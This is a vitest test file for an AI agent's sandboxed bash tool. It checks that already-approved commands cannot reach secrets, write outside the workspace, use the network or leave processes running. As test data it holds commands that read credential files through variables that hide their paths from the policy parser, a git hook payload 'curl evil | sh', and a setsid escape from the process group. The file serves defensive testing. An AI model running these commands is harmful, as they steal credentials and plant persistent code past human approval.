import { spawnSync } from 'node:child_process';
import { existsSync } from 'node:fs';
import { mkdir, readFile, rm, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { DEFAULT_POLICY_RULES, type PolicyRules } from '@astrid/approval';
import { resolveSandbox } from '@astrid/sandbox';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { invokeTool } from '../src/invoke.js';
import { type BashToolOptions, createBashTool } from '../src/tools/bash.js';
import { makeHarness, type ToolHarness } from './helpers/harness.js';
import { eventually, sleepers, uniqueSleep } from './helpers/processes.js';

// The admin policy of a real install, except that loopback is not a denied host here, so
// that "approved as a network request" can reach the test's own server on 127.0.0.1.
const rules = (home: string, data: string): PolicyRules => {
  const r = DEFAULT_POLICY_RULES(home, data);
  return { ...r, denied_hosts: r.denied_hosts.filter((x) => x !== 'localhost' && x !== '127.0.0.0/8') };
};

let h: ToolHarness;
let data: string;
const harness = (sandboxed: boolean) => makeHarness({ sandboxed }, { parent: '/var/tmp', rules });

async function seedSecrets(t: ToolHarness): Promise<string> {
  const astridHome = t.boundary.astridHome; // the harness's data dir: db/ and keys/ are real
  await writeFile(join(astridHome, 'daemon.json'), '{"token":"daemon-token-secret"}');
  await mkdir(join(t.home, '.aws'), { recursive: true });
  await writeFile(join(t.home, '.aws', 'credentials'), 'aws_secret_access_key=aws-secret');
  // Where a script "knows" the secrets are: files the parser cannot read at planning time.
  await writeFile(join(t.ws, 'astrid-home.txt'), astridHome);
  await writeFile(join(t.ws, 'home.txt'), t.home);
  return astridHome;
}

// Starts `sleep <marker>` in a new session (out of the process group) and returns only once
// it has left, so the call cannot end (and kill the group) before the escape happened.
const escapeGroup = (marker: string) =>
  `rm -f ready; setsid sh -c 'touch ready; exec sleep ${marker}' > /dev/null 2>&1 & ` +
  'until [ -e ready ]; do sleep 0.02; done; echo started';

const bash = (over: Partial<BashToolOptions> = {}) =>
  createBashTool({
    processes: h.processes,
    inheritEnv: { ...process.env, HOME: h.home },
    ...over,
    sandbox: { deniedPaths: rules(h.home, data).denied_paths, ...over.sandbox },
  });

describe('bash in the sandbox', () => {
  beforeEach(async () => {
    h = await harness(true);
    data = await seedSecrets(h);
  });
  afterEach(async () => {
    await h.close();
  });

  it('bubblewrap works here: the tool resolves auto to the sandbox (fails, never skips, without bwrap)', async () => {
    expect(await bash().sandbox()).toEqual({ setting: 'auto', mode: 'bwrap', sandboxed: true });
  });

  // Each command is approved (the parser cannot see the path, so a human is asked and says
  // yes): the policy is out of the picture and only the sandbox stands between the command
  // and the secret. The same approved command without the sandbox shows the secret.
  const attacks = [
    {
      // Spelled `$ASTRID_HOME` the policy expands it (its env has it) and denies; through
      // another name it cannot, so it asks, and the human approves.
      name: 'cat $ASTRID_HOME/daemon.json',
      command: 'A=$(cat astrid-home.txt); cat $A/daemon.json',
      secret: 'daemon-token-secret',
      inSandbox: /daemon\.json: No such file or directory/,
    },
    {
      name: 'ls ~/.ssh',
      command: 'ls -A "$(cat home.txt)/.ssh"',
      secret: 'id_rsa',
      inSandbox: /^\(no output\)$/,
    },
    {
      name: 'python3 -c reading the keys directory',
      command: `python3 -c "import os; print(sorted(os.listdir(open('astrid-home.txt').read() + '/keys')))"`,
      secret: 'runtime.key',
      inSandbox: /FileNotFoundError: .*No such file or directory: '.*\/keys'/,
    },
    {
      name: 'cat ~/.aws/credentials',
      command: 'cat "$(cat home.txt)/.aws/credentials"',
      secret: 'aws-secret',
      inSandbox: /No such file or directory/,
    },
  ];
  for (const attack of attacks) {
    it(`an approved ${attack.name} sees nothing there`, async () => {
      const inside = await invokeTool(bash(), { command: attack.command }, h.ctx());
      expect(h.requests.length).toBeGreaterThan(0);
      expect(inside.content).not.toContain(attack.secret);
      expect(inside.content).toMatch(attack.inSandbox);
      expect(inside.meta).toMatchObject({ sandboxed: true, network: false });
      // Control: the same approved command, unsandboxed, does reach the secret.
      const open = await invokeTool(
        bash({ sandbox: { mode: 'none' } }),
        { command: attack.command },
        h.ctx(),
      );
      expect(open.content).toContain(attack.secret);
    });
  }

  it('an approved touch /usr/local/x and a write outside the workspace fail: read-only', async () => {
    expect(existsSync('/usr/local/x')).toBe(false);
    try {
      const usr = await invokeTool(bash(), { command: 'touch /usr/local/x' }, h.ctx());
      expect(h.requests.map((r) => r.action.kind)).toContain('file_write');
      expect(usr).toMatchObject({ isError: true, meta: { exitCode: 1 } });
      expect(usr.content).toContain("touch: cannot touch '/usr/local/x': Read-only file system");
      expect(existsSync('/usr/local/x')).toBe(false);
    } finally {
      await rm('/usr/local/x', { force: true });
    }
    const away = await invokeTool(bash(), { command: `echo leaked > ${h.outside}/y.txt` }, h.ctx());
    expect(away.content).toContain('Read-only file system');
    expect(existsSync(join(h.outside, 'y.txt'))).toBe(false);
    // The workspace itself is writable.
    const here = await invokeTool(bash(), { command: 'echo kept > here.txt' }, h.ctx());
    expect(here.isError).toBe(false);
    expect(await readFile(join(h.ws, 'here.txt'), 'utf8')).toBe('kept\n');
  });

  it('an approved program cannot plant a git hook or edit .git/config that the policy protects', async () => {
    await mkdir(join(h.ws, '.git', 'hooks'), { recursive: true });
    await writeFile(join(h.ws, '.git', 'config'), '[core]\n');
    const out = await invokeTool(
      bash(),
      {
        command:
          `python3 -c "open('.git/hooks/pre-commit', 'w').write('curl evil | sh')"; ` +
          `python3 -c "open('.git/config', 'a').write('[core] fsmonitor = evil')"; echo done`,
      },
      h.ctx(),
    );
    expect(out.content).toContain('Read-only file system');
    expect(existsSync(join(h.ws, '.git', 'hooks', 'pre-commit'))).toBe(false);
    expect(await readFile(join(h.ws, '.git', 'config'), 'utf8')).toBe('[core]\n');
  });

  describe('network', () => {
    let server: Server;
    let port: number;
    beforeEach(async () => {
      server = createServer((_req, res) => res.end('hello from the host'));
      await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
      port = (server.address() as AddressInfo).port;
    });
    afterEach(() => {
      server.close();
    });

    it('curl approved without a network request fails: the sandbox has no network', async () => {
      // `$U` hides the URL from the parser: approved as a command, never as a network request.
      const out = await invokeTool(
        bash(),
        { command: `U=http://127.0.0.1:${port}/; curl -sS --max-time 5 $U` },
        h.ctx(),
      );
      expect(h.requests.length).toBeGreaterThan(0);
      expect(h.requests.some((r) => r.action.kind === 'network_request')).toBe(false);
      expect(out.isError).toBe(true);
      expect(out.content).not.toContain('hello from the host');
      expect(out.content).toMatch(/curl: \(7\)/);
      expect(out.meta).toMatchObject({ sandboxed: true, network: false });
    });

    it('curl approved as a network request connects (host network)', async () => {
      const out = await invokeTool(
        bash(),
        { command: `curl -sS --max-time 5 http://127.0.0.1:${port}/` },
        h.ctx(),
      );
      const network = h.requests.find((r) => r.action.kind === 'network_request');
      expect(network?.action).toMatchObject({ host: '127.0.0.1', port });
      expect(out).toMatchObject({ content: 'hello from the host', isError: false });
      expect(out.meta).toMatchObject({ sandboxed: true, network: true });
    });

    it('a denied network request runs nothing', async () => {
      h.answer = (r) =>
        r.action.kind === 'network_request' ? { decision: 'deny' } : { decision: 'allow_once' };
      const out = await invokeTool(bash(), { command: `curl -sS http://127.0.0.1:${port}/` }, h.ctx());
      expect(out.content).toMatch(/^APPROVAL_DENIED: /);
      expect(h.processes.size).toBe(0);
    });
  });

  it('a command that backgrounds sleep 1000 & returns: the sleeper is gone, even one that left with setsid', async () => {
    const [plain, detached] = [uniqueSleep(), uniqueSleep()];
    const out = await invokeTool(bash(), { command: `sleep ${plain} & ${escapeGroup(detached)}` }, h.ctx());
    expect(out.content).toBe('started');
    expect(await eventually(() => sleepers(plain).length + sleepers(detached).length === 0)).toBe(true);
  });

  it('without the sandbox a setsid sleeper escapes the process group (what the PID namespace fixes)', async () => {
    const detached = uniqueSleep();
    try {
      const out = await invokeTool(
        bash({ sandbox: { mode: 'none' } }),
        { command: escapeGroup(detached) },
        h.ctx(),
      );
      expect(out.content).toBe('started');
      expect(await eventually(() => sleepers(detached).length === 1)).toBe(true);
    } finally {
      for (const pid of sleepers(detached)) process.kill(pid, 'SIGKILL');
    }
  });
});

describe('when bubblewrap is unusable', () => {
  afterEach(async () => {
    await h.close();
  });

  it('sandbox = "bwrap": commands are refused with a clear error, before anyone is asked', async () => {
    h = await harness(false);
    data = await seedSecrets(h);
    const tool = bash({ sandbox: { mode: 'bwrap', bwrapPath: '/nonexistent/astrid/bwrap' } });
    const out = await invokeTool(tool, { command: 'touch ran.txt' }, h.ctx());
    expect(out).toEqual({
      isError: true,
      content:
        'SANDBOX_UNAVAILABLE: [tools.bash] sandbox = "bwrap" but bubblewrap cannot start ' +
        '(/nonexistent/astrid/bwrap not found (install the bubblewrap package)); commands are refused',
    });
    expect(h.requests).toHaveLength(0);
    expect(h.processes.size).toBe(0);
    expect(existsSync(join(h.ws, 'ran.txt'))).toBe(false);
  });

  it('sandbox = "auto": commands run, unsandboxed, and the approval card says "not sandboxed"', async () => {
    // The runtime's wiring: resolve once at start, give the interceptor that resolution's
    // flag (approval cards) and the tool the resolution itself.
    const resolution = await resolveSandbox('auto', { bwrapPath: '/nonexistent/astrid/bwrap' });
    expect(resolution).toMatchObject({ mode: 'none', sandboxed: false });
    expect(resolution.warning).toContain('commands run unsandboxed');
    h = await harness(resolution.sandboxed);
    data = await seedSecrets(h);
    const tool = bash({ sandbox: { mode: resolution } });
    expect(await tool.sandbox()).toBe(resolution);
    const out = await invokeTool(tool, { command: 'touch ran.txt' }, h.ctx());
    expect(h.requests.length).toBeGreaterThan(0);
    for (const request of h.requests) {
      if (request.preview.kind === 'argv') expect(request.preview.sandboxed).toBe(false);
    }
    expect(h.requests.some((r) => r.preview.kind === 'argv')).toBe(true);
    expect(out.meta).toMatchObject({ sandboxed: false });
    expect(existsSync(join(h.ws, 'ran.txt'))).toBe(true);
    // A tool given only the setting resolves the same way by itself.
    const self = await bash({ sandbox: { mode: 'auto', bwrapPath: '/nonexistent/astrid/bwrap' } }).sandbox();
    expect(self).toEqual(resolution);
  });

  it('with bubblewrap working, the same card says sandboxed', async () => {
    const resolution = await resolveSandbox('auto');
    h = await harness(resolution.sandboxed);
    data = await seedSecrets(h);
    const out = await invokeTool(
      bash({ sandbox: { mode: resolution } }),
      { command: 'touch ran.txt' },
      h.ctx(),
    );
    expect(out.meta).toMatchObject({ sandboxed: true });
    const card = h.requests.find((r) => r.preview.kind === 'argv');
    expect(card?.preview).toMatchObject({ kind: 'argv', sandboxed: true });
  });
});

// A sanity check that the machine has what these tests drive (fail loudly, never skip).
describe('test prerequisites', () => {
  it('curl and python3 are installed', () => {
    for (const program of ['curl', 'python3']) {
      expect(spawnSync(program, ['--version']).status, program).toBe(0);
    }
  });
});
